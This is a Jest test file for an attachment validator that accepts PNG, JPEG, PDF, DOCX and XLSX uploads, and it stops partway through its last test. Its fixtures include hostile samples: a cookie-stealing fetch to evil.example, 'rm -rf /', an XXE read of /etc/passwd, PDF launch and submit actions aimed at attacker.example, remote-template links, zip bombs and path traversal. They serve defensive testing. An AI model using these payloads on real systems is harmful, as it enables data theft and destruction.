import { createHash } from 'crypto';
import JSZip from 'jszip';
import sharp from 'sharp';
import { deflateSync } from 'zlib';
import {
  ATTACHMENT_PROBLEM_MESSAGES,
  DEFAULT_ATTACHMENT_LIMITS,
  isOleCompoundFile,
  sniffKind,
  validateAttachment,
  type AttachmentLimits,
  type AttachmentProblem,
} from '../attachments';

const MB = 1024 * 1024;
const EXIF_MARKER = 'x-exif-copyright-3f9c';
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const withLimits = (overrides: Partial<AttachmentLimits>): AttachmentLimits => ({
  ...DEFAULT_ATTACHMENT_LIMITS,
  ...overrides,
});

async function problemOf(data: Buffer, limits?: AttachmentLimits): Promise<AttachmentProblem | 'accepted'> {
  const result = await validateAttachment(data, limits);
  return result.ok ? 'accepted' : result.problem;
}

async function accepted(data: Buffer, limits?: AttachmentLimits) {
  const result = await validateAttachment(data, limits);
  if (!result.ok) throw new Error(`expected the file to be accepted, got '${result.problem}'`);
  return result.value;
}

/** A document is stored as sent: these very bytes, their size and their digest, with its kind, type and ending. */
async function expectKeptAsIs(input: Buffer, type: { kind: string; mime: string; extension: string }) {
  const value = await accepted(input);
  expect(value).toMatchObject({ ...type, size: input.length });
  expect(value.bytes.equals(input)).toBe(true);
  expect(value.sha256).toBe(createHash('sha256').update(input).digest('hex'));
}

/* ---- fixtures ------------------------------------------------------------------------------------------------ */

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 40, g: 90, b: 200 } } });

/** Deterministic noise, so that PNG data does not compress to a few bytes and truncation really cuts pixels. */
function noise(length: number, seed = 1): Buffer {
  const out = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    out[i] = state >>> 24;
  }
  return out;
}

const noisyPng = (size: number) =>
  sharp(noise(size * size * 3), { raw: { width: size, height: size, channels: 3 } })
    .png()
    .toBuffer();

const CT_HEADER =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>';
const contentTypes = (...overrides: Array<[string, string]>) =>
  CT_HEADER +
  overrides.map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`).join('') +
  '</Types>';

const DOCX_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const XLSX_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const rootRels = (target: string) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"' +
  ` Target="${target}"/></Relationships>`;

const DOCX_FILES = {
  '[Content_Types].xml': contentTypes(['/word/document.xml', DOCX_MAIN]),
  '_rels/.rels': rootRels('word/document.xml'),
  'word/document.xml':
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    '<w:body><w:p><w:r><w:t>Góp ý về thủ tục hành chính</w:t></w:r></w:p></w:body></w:document>',
};

const XLSX_FILES = {
  '[Content_Types].xml': contentTypes(['/xl/workbook.xml', XLSX_MAIN]),
  '_rels/.rels': rootRels('xl/workbook.xml'),
  'xl/workbook.xml':
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
};

async function zipOf(files: Record<string, string | Buffer>, level = 6): Promise<Buffer> {
  const zip = new JSZip();
  for (const [name, content] of Object.entries(files)) zip.file(name, content);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level } });
}

/** A DOCX or XLSX whose main part is declared under another content type. */
const mainPartTyped = (files: typeof DOCX_FILES | typeof XLSX_FILES, type: string) => {
  const main = files === DOCX_FILES ? '/word/document.xml' : '/xl/workbook.xml';
  return zipOf({ ...files, '[Content_Types].xml': contentTypes([main, type]) });
};

interface ZipRecord {
  name: string;
  /** Offset of the central directory header. */
  central: number;
  /** Offset of the local file header. */
  local: number;
}

/** The entries of a (small, non-zip64) zip as laid out in its central directory, to patch headers in tests. */
function zipRecords(zip: Buffer): ZipRecord[] {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(eocd + 10);
  let offset = zip.readUInt32LE(eocd + 16);
  const records: ZipRecord[] = [];
  for (let i = 0; i < count; i++) {
    const nameLength = zip.readUInt16LE(offset + 28);
    const name = zip.toString('latin1', offset + 46, offset + 46 + nameLength);
    records.push({ name, central: offset, local: zip.readUInt32LE(offset + 42) });
    offset += 46 + nameLength + zip.readUInt16LE(offset + 30) + zip.readUInt16LE(offset + 32);
  }
  return records;
}

function patchZip(zip: Buffer, name: string, patch: (copy: Buffer, record: ZipRecord) => void): Buffer {
  const copy = Buffer.from(zip);
  const record = zipRecords(copy).find((r) => r.name === name);
  if (!record) throw new Error(`no entry ${name}`);
  patch(copy, record);
  return copy;
}

/** The sizes a zip reader trusts without inflating: in the central directory and in the local header. */
const lieAboutSize = (zip: Buffer, name: string, size: number) =>
  patchZip(zip, name, (copy, { central, local }) => {
    copy.writeUInt32LE(size, central + 24);
    copy.writeUInt32LE(size, local + 22);
  });

function oleFile(directoryNames: string[] = []): Buffer {
  const file = Buffer.alloc(4096);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
  directoryNames.forEach((name, i) => file.write(`${name}\0`, 1024 + i * 128, 'utf16le'));
  return file;
}

const MINIMAL_PDF = [
  '%PDF-1.4',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
  'xref',
  '0 4',
  '0000000000 65535 f ',
  '0000000009 00000 n ',
  '0000000058 00000 n ',
  '0000000115 00000 n ',
  'trailer << /Size 4 /Root 1 0 R >>',
  'startxref',
  '186',
  '%%EOF',
  '',
].join('\n');

/** A PDF of the given objects (numbered from 1) after a catalog; readers rebuild a missing xref table. */
function pdfOf(catalogExtra: string, ...objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [
    Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj\n`),
    Buffer.from('2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n'),
  ];
  objects.forEach((object, i) => {
    parts.push(Buffer.from(`${i + 3} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  });
  parts.push(Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'));
  return Buffer.concat(parts);
}

/** A stream object with its dictionary entries and data, optionally deflated. */
function streamOf(dictionary: string, data: Buffer | string, deflate = true): Buffer {
  const bytes = deflate ? deflateSync(Buffer.from(data)) : Buffer.from(data);
  const filter = deflate ? '/Filter /FlateDecode ' : '';
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} ${filter}/Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

/** An object stream holding object 9 (`body`). */
const objectStream = (body: string, dictionary = '/Type /ObjStm /N 1 /First 5') =>
  streamOf(dictionary, `9 0 ${body}`);

const SVG =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">' +
  '<script>alert(document.cookie)</script></svg>';
const HTML = '<!DOCTYPE html><html><head><script>alert(1)</script></head><body>Xin chào</body></html>';

let png: Buffer;
let jpegWithExif: Buffer;
let docx: Buffer;
let xlsx: Buffer;

beforeAll(async () => {
  png = await solid(8, 6).png().toBuffer();
  // Orientation 6 = rotate 90°: the stored image must come out upright (4 wide, 8 high).
  jpegWithExif = await solid(8, 4)
    .jpeg()
    .withExif({ IFD0: { Copyright: EXIF_MARKER } })
    .withMetadata({ orientation: 6 })
    .toBuffer();
  docx = await zipOf(DOCX_FILES);
  xlsx = await zipOf(XLSX_FILES);
});

/* ---- tests --------------------------------------------------------------------------------------------------- */

describe('sniffKind', () => {
  it('recognises the accepted signatures and nothing else', () => {
    expect(sniffKind(Buffer.from('%PDF-1.7\n'))).toBe('pdf');
    expect(sniffKind(Buffer.from([0xff, 0xd8, 0xff, 0xe0]))).toBe('jpeg');
    expect(sniffKind(PNG_SIGNATURE)).toBe('png');
    expect(sniffKind(Buffer.from('PK\x03\x04', 'latin1'))).toBe('zip');
    expect(sniffKind(Buffer.from(HTML))).toBeNull();
    expect(sniffKind(Buffer.from('MZ\x90\x00', 'latin1'))).toBeNull();
    expect(sniffKind(Buffer.alloc(0))).toBeNull();
    expect(sniffKind(PNG_SIGNATURE.subarray(0, 4))).toBeNull();
  });

  it('tells OLE compound files apart', () => {
    expect(isOleCompoundFile(oleFile())).toBe(true);
    expect(isOleCompoundFile(Buffer.from('PK\x03\x04', 'latin1'))).toBe(false);
  });
});

describe('size', () => {
  it('refuses an empty file', async () => {
    expect(await problemOf(Buffer.alloc(0))).toBe('empty');
  });

  it('refuses a file over maxBytes before looking at it', async () => {
    expect(await problemOf(Buffer.alloc(DEFAULT_ATTACHMENT_LIMITS.maxBytes + 1))).toBe('too_large');
    expect(await problemOf(png, withLimits({ maxBytes: png.length - 1 }))).toBe('too_large');
    expect(await problemOf(Buffer.from(MINIMAL_PDF), withLimits({ maxBytes: 10 }))).toBe('too_large');
  });

  it('treats a missing buffer as empty rather than throwing', async () => {
    expect(await problemOf(undefined as unknown as Buffer)).toBe('empty');
    expect(await problemOf('%PDF-1.4' as unknown as Buffer)).toBe('empty');
  });
});

describe('images', () => {
  it('accepts a PNG, re-encoded', async () => {
    const value = await accepted(png);
    expect(value).toMatchObject({ kind: 'png', mime: 'image/png', extension: '.png' });
    expect((await sharp(value.bytes).metadata()).format).toBe('png');
  });

  it('accepts a JPEG, stripping EXIF and applying the orientation', async () => {
    expect(jpegWithExif.includes(EXIF_MARKER)).toBe(true);
    const value = await accepted(jpegWithExif);
    expect(value).toMatchObject({ kind: 'jpeg', mime: 'image/jpeg', extension: '.jpg' });
    expect(value.bytes.includes(EXIF_MARKER)).toBe(false);
    expect(value.bytes.includes('Exif\0\0')).toBe(false);
    const meta = await sharp(value.bytes).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 4, height: 8 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
  });

  it('accepts a Uint8Array as well as a Buffer', async () => {
    expect((await accepted(new Uint8Array(png) as Buffer)).kind).toBe('png');
  });

  it('refuses a truncated PNG', async () => {
    const full = await noisyPng(64);
    expect(await problemOf(full.subarray(0, Math.floor(full.length / 2)))).toBe('corrupt');
  });

  it('refuses a truncated JPEG', async () => {
    const full = await sharp(noise(64 * 64 * 3), { raw: { width: 64, height: 64, channels: 3 } })
      .jpeg()
      .toBuffer();
    expect(await problemOf(full.subarray(0, Math.floor(full.length / 2)))).toBe('corrupt');
  });

  it('refuses an image with more pixels than allowed', async () => {
    expect(await problemOf(png, withLimits({ maxImagePixels: 8 * 6 - 1 }))).toBe('too_many_pixels');
    expect((await accepted(png, withLimits({ maxImagePixels: 8 * 6 }))).kind).toBe('png');
  });

  it('refuses SVG and HTML, as they are and behind a PNG signature', async () => {
    expect(await problemOf(Buffer.from(SVG))).toBe('unsupported_type');
    expect(await problemOf(Buffer.from(HTML))).toBe('unsupported_type');
    expect(await problemOf(Buffer.concat([PNG_SIGNATURE, Buffer.from(SVG)]))).toBe('corrupt');
    expect(await problemOf(Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]))).toBe('corrupt');
    expect(await problemOf(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(HTML)]))).toBe(
      'corrupt'
    );
  });

  it('refuses a PNG whose content is really a JPEG', async () => {
    const disguised = Buffer.concat([PNG_SIGNATURE, jpegWithExif]);
    expect(await problemOf(disguised)).toBe('corrupt');
  });

  it('refuses other image formats whatever they are called', async () => {
    const gif = await solid(4, 4).gif().toBuffer();
    const webp = await solid(4, 4).webp().toBuffer();
    const tiff = await solid(4, 4).tiff().toBuffer();
    const bmp = Buffer.concat([Buffer.from('BM', 'latin1'), Buffer.alloc(60)]);
    for (const image of [gif, webp, tiff, bmp]) expect(await problemOf(image)).toBe('unsupported_type');
  });
});

describe('PDF', () => {
  it('accepts a minimal PDF as is', async () => {
    await expectKeptAsIs(Buffer.from(MINIMAL_PDF), {
      kind: 'pdf',
      mime: 'application/pdf',
      extension: '.pdf',
    });
  });

  it('accepts PDF 2.0', async () => {
    expect((await accepted(Buffer.from(MINIMAL_PDF.replace('%PDF-1.4', '%PDF-2.0')))).kind).toBe('pdf');
  });

  it('refuses a PDF without %%EOF near its end', async () => {
    expect(await problemOf(Buffer.from(MINIMAL_PDF.replace('%%EOF', '')))).toBe('corrupt');
    const eofTooEarly = Buffer.concat([Buffer.from(MINIMAL_PDF), Buffer.alloc(2000, 0x20)]);
    expect(await problemOf(eofTooEarly)).toBe('corrupt');
  });

  it('refuses an unknown PDF version', async () => {
    expect(await problemOf(Buffer.from(MINIMAL_PDF.replace('%PDF-1.4', '%PDF-9.9')))).toBe('corrupt');
  });

  it('refuses junk before the header', async () => {
    expect(await problemOf(Buffer.from(`${HTML}\n${MINIMAL_PDF}`))).toBe('unsupported_type');
    expect(await problemOf(Buffer.from(`\uFEFF${MINIMAL_PDF}`))).toBe('unsupported_type');
  });
});

describe('PDF active content', () => {
  const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

  it('accepts links, an opening destination, outlines and text that merely mentions the names', async () => {
    const links = pdfOf(
      '/OpenAction [2 0 R /Fit] /Outlines 3 0 R',
      '<< /Type /Outlines /Count 0 >>',
      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.vn/JS) >> >>',
      '<< /Title (About /JavaScript and /OpenAction) /Author <2f4a53> >>',
      // Drawing data is not read: a content stream whose text shows "/JS" stays a drawing.
      streamOf('', 'BT /F1 12 Tf (x) Tj ET /JS /AA'),
      streamOf('/Subtype /Image /Width 1 /Height 1', Buffer.from('/JS /Launch'), false)
    );
    expect((await accepted(links)).kind).toBe('pdf');
    // pdfTeX and DocBook write the destination as a reference.
    expect((await accepted(pdfOf('/OpenAction 3 0 R', '[2 0 R /Fit]'))).kind).toBe('pdf');
    const compressed = pdfOf('', objectStream('<< /Type /Annot /Subtype /Link /A << /S /URI >> >>'));
    expect((await accepted(compressed)).kind).toBe('pdf');
  });

  it('refuses scripts and automatic actions, written plainly', async () => {
    const cases = [
      pdfOf(`/OpenAction ${JS_ACTION}`),
      pdfOf('/OpenAction << /S /URI /URI (https://attacker.example) >>'),
      pdfOf('/Names << /JavaScript 3 0 R >>', '<< /Names [(a) 4 0 R] >>'),
      pdfOf('/AA << /WC 3 0 R >>', '<< /S /URI /URI (https://attacker.example) >>'),
      pdfOf('', '<< /Type /Annot /A << /S /Launch /F (cmd.exe) >> >>'),
      pdfOf('/Names << /EmbeddedFiles 3 0 R >>', '<< /Names [] >>'),
      pdfOf('', '<< /Type /EmbeddedFile >>'),
      pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>'),
      pdfOf('/AcroForm << /Fields [] /XFA 3 0 R >>', '<< >>'),
      pdfOf('', '<< /S /SubmitForm /F (https://attacker.example) >>'),
      pdfOf('', '<< /S /ImportData /F (data.fdf) >>'),
      pdfOf('', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
      pdfOf('', '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) >>'),
    ];
    for (const pdf of cases) expect(await problemOf(pdf)).toBe('active_content');
  });

  it('refuses the names written with #xx escapes', async () => {
    expect(await problemOf(pdfOf('/Names << /J#61vaScript 3 0 R >>', '<< >>'))).toBe('active_content');
    expect(await problemOf(pdfOf('/Open#41ction << /S /URI >>'))).toBe('active_content');
    expect(await problemOf(pdfOf('', '<< /S /#4A#53 >>'))).toBe('active_content');
  });

  it('refuses them inside compressed object streams, typed or not', async () => {
    expect(await problemOf(pdfOf('', objectStream(JS_ACTION)))).toBe('active_content');
    expect(await problemOf(pdfOf('', objectStream('<< /S /Launch >>', '/N 1 /First 5')))).toBe(
      'active_content'
    );
    const escaped = objectStream('<< /S /JavaScript >>', '/Type /Obj#53tm /N 1 /First 5');
    expect(await problemOf(pdfOf('', escaped))).toBe('active_content');
  });

  it('refuses object streams it cannot read: other filters, predictors, broken or too large data', async () => {
    const hex = streamOf('/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode', '39', false);
    const predictor = streamOf('/Type /ObjStm /N 1 /First 5 /DecodeParms << /Predictor 12 >>', '9 0 << >>');
    const broken = streamOf('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', 'not deflate', false);
    for (const stream of [hex, predictor, broken]) expect(await problemOf(pdfOf('', stream))).toBe('corrupt');
    const bomb = pdfOf('', objectStream(`<< /Filler (${'x'.repeat(200_000)}) >>`));
    expect(await problemOf(bomb, withLimits({ maxUnpackedBytes: 100_000 }))).toBe('zip_too_large');
    expect((await accepted(bomb)).kind).toBe('pdf');
  });

  it('refuses an encrypted PDF, whose objects cannot be read', async () => {
    const encrypted = Buffer.from(
      pdfOf('').toString('latin1').replace('trailer << ', 'trailer << /Encrypt 9 0 R '),
      'latin1'
    );
    expect(await problemOf(encrypted)).toBe('encrypted_or_macro');
  });

  it('refuses an HTML/PDF polyglot', async () => {
    const polyglot = Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n');
    expect(await problemOf(polyglot)).toBe('active_content');
    const trailing = Buffer.from(MINIMAL_PDF.replace('%%EOF', '<!DOCTYPE html><body onload=x>\n%%EOF'));
    expect(await problemOf(trailing)).toBe('active_content');
    // Inside a stream the same bytes are data (e.g. XMP metadata), not markup a browser would see first.
    expect((await accepted(pdfOf('', streamOf('/Type /Metadata', '<html>x</html>', false)))).kind).toBe(
      'pdf'
    );
  });
});

describe('DOCX and XLSX', () => {
  it('accepts a DOCX as is', async () => {
    await expectKeptAsIs(docx, {
      kind: 'docx',
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      extension: '.docx',
    });
  });

  it('accepts an XLSX as is', async () => {
    expect(await accepted(xlsx)).toMatchObject({
      kind: 'xlsx',
      mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      extension: '.xlsx',
    });
  });

  it('refuses other zips: plain, ODT, PPTX, JAR, or both DOCX and XLSX', async () => {
    const plain = await zipOf({ 'readme.txt': 'Xin chào', 'data.csv': 'a,b\n1,2' });
    const odt = await zipOf({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': '<office:document-content/>',
      'META-INF/manifest.xml': '<manifest:manifest/>',
    });
    const pptx = await zipOf({
      '[Content_Types].xml': contentTypes(['/ppt/presentation.xml', 'application/xml']),
      'ppt/presentation.xml': '<p:presentation/>',
    });
    const jar = await zipOf({
      'META-INF/MANIFEST.MF': 'Main-Class: Evil\n',
      'Evil.class': Buffer.alloc(64, 0xca),
    });
    const both = await zipOf({ ...DOCX_FILES, 'xl/workbook.xml': XLSX_FILES['xl/workbook.xml'] });
    const noContentTypes = await zipOf({ 'word/document.xml': DOCX_FILES['word/document.xml'] });
    for (const zip of [plain, odt, pptx, jar, both, noContentTypes]) {
      expect(await problemOf(zip)).toBe('unsupported_type');
    }
  });

  it('refuses macros: a vbaProject part, a macro-enabled content type, a vbaProject relationship', async () => {
    const withBin = await zipOf({ ...DOCX_FILES, 'word/vbaProject.bin': Buffer.alloc(512, 1) });
    const docm = await mainPartTyped(DOCX_FILES, 'application/vnd.ms-word.document.macroEnabled.main+xml');
    const xlsm = await mainPartTyped(XLSX_FILES, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml');
    // The word hidden behind a character reference, which an XML parser resolves.
    const obfuscated = await mainPartTyped(
      DOCX_FILES,
      'application/vnd.ms-word.document.&#x6D;acro&#69;nabled.main+xml'
    );
    const utf16 = await zipOf({
      ...DOCX_FILES,
      '[Content_Types].xml': Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(
          contentTypes([
            '/word/document.xml',
            'application/vnd.ms-word.document.macroEnabled.main+xml',
          ]).replace('UTF-8', 'UTF-16'),
          'utf16le'
        ),
      ]),
    });
    const renamedProject = await zipOf({
      ...DOCX_FILES,
      'word/_rels/document.xml.rels':
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"' +
        ' Target="innocent.bin"/></Relationships>',
      'word/innocent.bin': Buffer.alloc(512, 1),
    });
    for (const zip of [withBin, docm, xlsm, obfuscated, utf16, renamedProject]) {
      expect(await problemOf(zip)).toBe('encrypted_or_macro');
    }
  });

  const rels = (...relationships: string[]) =>
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    relationships.join('') +
    '</Relationships>';
  const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

  it('accepts web and mail hyperlinks and printer settings', async () => {
    const linked = await zipOf({
      ...DOCX_FILES,
      'word/_rels/document.xml.rels': rels(
        `<Relationship Id="rId5" Type="${R}/hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>`,
        `<Relationship Id="rId6" Type="${R}/hyperlink" Target="mailto:a@example.vn" TargetMode="External"/>`,
        `<Relationship Id="rId7" Type="${R}/printerSettings" Target="printerSettings/printerSettings1.bin"/>`
      ),
      'word/printerSettings/printerSettings1.bin': Buffer.alloc(64, 1),
    });
    expect((await accepted(linked)).kind).toBe('docx');
  });

  it('refuses external relationships other than web links: templates, images, frames, UNC links', async () => {
    const external = (type: string, target: string) =>
      zipOf({
        ...DOCX_FILES,
        'word/_rels/settings.xml.rels': rels(
          `<Relationship Id="rId1" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`
        ),
      });
    const cases = [
      await external('attachedTemplate', 'http://attacker.example/t.dotm'),
      await external('image', 'http://attacker.example/pixel.png'),
      await external('frame', 'http://attacker.example/f.html'),
      await external('subDocument', 'file:///C:/a.docx'),
      await external('hyperlink', '\\\\attacker.example\\share'),
      await external('hyperlink', 'file:///etc/passwd'),
      // Attribute quoting and order, a prefix, and a character reference do not hide it.
      await zipOf({
        ...DOCX_FILES,
        'word/_rels/settings.xml.rels': rels(
          `<pr:Relationship TargetMode='Ext&#101;rnal' Target='http://a.example/t.dotm' Id='x' Type='${R}/attachedTemplate'/>`
        ),
      }),
    ];
    for (const zip of cases) expect(await problemOf(zip)).toBe('active_content');
  });

  it('refuses an XLSX linked to an external workbook', async () => {
    const xlsxLinked = await zipOf({
      ...XLSX_FILES,
      'xl/_rels/workbook.xml.rels': rels(
        `<Relationship Id="rId3" Type="${R}/externalLink" Target="externalLinks/externalLink1.xml"/>`
      ),
      'xl/externalLinks/externalLink1.xml': '<externalLink/>',
      'xl/externalLinks/_rels/externalLink1.xml.rels': rels(
        `<Relationship Id="rId1" Type="${R}/externalLinkPath" Target="\\\\srv\\b.xlsx" TargetMode="External"/>`
      ),
    });
    expect(await problemOf(xlsxLinked)).toBe('active_content');
  });

  it('refuses OLE embeddings and ActiveX controls', async () => {
    const ole = await zipOf({ ...DOCX_FILES, 'word/embeddings/oleObject1.bin': oleFile() });
    const oleRel = await zipOf({
      ...DOCX_FILES,
      'word/_rels/document.xml.rels': rels(
        `<Relationship Id="rId9" Type="${R}/oleObject" Target="media/x.dat"/>`
      ),
      'word/media/x.dat': Buffer.alloc(64, 2),
    });
    const activeX = await zipOf({
      ...DOCX_FILES,
      'word/activeX/activeX1.xml': '<ax:ocx/>',
      'word/activeX/_rels/activeX1.xml.rels': rels(''),
    });
    const activeXType = await zipOf({
      ...XLSX_FILES,
      '[Content_Types].xml': contentTypes(
        ['/xl/workbook.xml', XLSX_MAIN],
        ['/xl/ctrl.xml', 'application/vnd.ms-office.activeX+xml']
      ),
      'xl/ctrl.xml': '<ax:ocx/>',
    });
    const control = await zipOf({ ...XLSX_FILES, 'xl/controls/control1.bin': Buffer.alloc(64, 3) });
    for (const zip of [ole, oleRel, activeX, activeXType, control]) {
      expect(await problemOf(zip)).toBe('active_content');
    }
  });

  it('refuses encrypted entries', async () => {
    const encrypted = patchZip(docx, 'word/document.xml', (copy, { central, local }) => {
      copy.writeUInt16LE(copy.readUInt16LE(central + 8) | 1, central + 8);
      copy.writeUInt16LE(copy.readUInt16LE(local + 6) | 1, local + 6);
    });
    expect(await problemOf(encrypted)).toBe('encrypted_or_macro');
  });

  it('refuses too many entries, counted from the central directory', async () => {
    const count = zipRecords(docx).length;
    expect(await problemOf(docx, withLimits({ maxZipEntries: count - 1 }))).toBe('zip_too_many_entries');
    expect((await accepted(docx, withLimits({ maxZipEntries: count }))).kind).toBe('docx');
  });

  describe('zip bombs', () => {
    let bomb: Buffer;

    beforeAll(async () => {
      bomb = await zipOf({ 'zeros.bin': Buffer.alloc(60 * MB) }, 9);
    });

    it('refuses one entry of 60 MB of zeros from its declared size, without inflating it', async () => {
      expect(bomb.length).toBeLessThan(MB);
      const started = Date.now();
      expect(await problemOf(bomb)).toBe('zip_too_large');
      expect(Date.now() - started).toBeLessThan(1000);
    });

    it('stops inflating once the real total passes the limit when the headers lie', async () => {
      const limits = withLimits({ maxUnpackedBytes: 2 * MB });
      const honest = await zipOf({ ...DOCX_FILES, 'word/media/zeros.bin': Buffer.alloc(3 * MB) }, 9);
      expect(await problemOf(honest, limits)).toBe('zip_too_large');
      const lying = lieAboutSize(honest, 'word/media/zeros.bin', 1000);
      expect(await problemOf(lying, limits)).toBe('zip_too_large');
    });

    it('refuses an entry that inflates to another size than declared', async () => {
      expect(await problemOf(lieAboutSize(docx, 'word/document.xml', 10))).toBe('corrupt');
    });

    it('refuses entries whose data overlap', async () => {
      const [first] = zipRecords(docx);
      const overlapping = patchZip(docx, first.name, (copy, { central }) => {
        copy.writeUInt32LE(copy.readUInt32LE(central + 20) + 100, central + 20);
      });
      expect(await problemOf(overlapping)).toBe('corrupt');
    });
  });

  it('refuses path traversal and absolute paths', async () => {
    const traversal = await zipOf({ ...DOCX_FILES, '../evil': 'x' });
    expect(await problemOf(traversal)).toBe('corrupt');
    const absolute = await zipOf({ ...DOCX_FILES, '/etc/evil': 'x' });
    expect(await problemOf(absolute)).toBe('corrupt');
  });

  it('refuses duplicate names, also when they differ only in case', async () => {
    const sameLength = await zipOf({ ...DOCX_FILES, 'word/aaaa.xml': '<a/>', 'word/bbbb.xml': '<b/>' });
    const duplicate = patchZip(sameLength, 'word/bbbb.xml', (copy, { central, local }) => {
      copy.write('word/aaaa.xml', central + 46, 'latin1');
      copy.write('word/aaaa.xml', local + 30, 'latin1');
    });
    expect(await problemOf(duplicate)).toBe('corrupt');
    const caseOnly = await zipOf({ ...DOCX_FILES, 'word/Document.xml': '<w:document/>' });
    expect(await problemOf(caseOnly)).toBe('corrupt');
  });

  it('refuses a local header that disagrees with the central directory', async () => {
    const mismatch = patchZip(docx, 'word/document.xml', (copy, { local }) => {
      copy.write('x', local + 30, 'latin1');
    });
    expect(await problemOf(mismatch)).toBe('corrupt');
  });

  it('refuses truncated archives and archives with trailing data', async () => {
    expect(await problemOf(docx.subarray(0, docx.length - 30))).toBe('corrupt');
    expect(await problemOf(docx.subarray(0, 200))).toBe('corrupt');
    expect(await problemOf(Buffer.concat([docx, Buffer.from(HTML)]))).toBe('corrupt');
  });
});

describe('OLE compound files', () => {
  it('refuses a password-protected DOCX/XLSX as encrypted', async () => {
    expect(await problemOf(oleFile(['Root Entry', 'EncryptionInfo', 'EncryptedPackage']))).toBe(
      'encrypted_or_macro'
    );
  });

  it('refuses any other OLE file (legacy .doc/.xls) as unsupported', async () => {
    expect(await problemOf(oleFile())).toBe('unsupported_type');
    expect(await problemOf(oleFile(['Root Entry', 'WordDocument', '1Table']))).toBe('unsupported_type');
  });
});

describe('everything else', () => {
  it.each([
    ['an EXE', Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120)])],
    ['an ELF binary', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(57)])],
    ['a RAR archive', Buffer.from('Rar!\x1a\x07\x01\x00\x00\x00\x00\x00', 'latin1')],
    ['a 7z archive', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 0, 0, 0, 0])],
    ['an empty zip', Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1')],
    ['an HTML page', Buffer.from(HTML)],
    ['a script', Buffer.from('#!/bin/sh\nrm -rf /\n')],
    ['JavaScript', Buffer.from('fetch("https://evil.example/" + document.cookie);')],
    [
      'an XML file',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ],
    ['plain text', Buffer.from('Kính gửi Sở, tôi xin góp ý như sau.')],
  ])('refuses %s', async (_, data) => {
    expect(await problemOf(data)).toBe('unsupported_type');
  });

  it('never throws on damaged input', async () => {
    const samples = [docx, xlsx, png, jpegWithExif, Buffer.from(MINIMAL_PDF)];
    const random = noise(4000, 7);
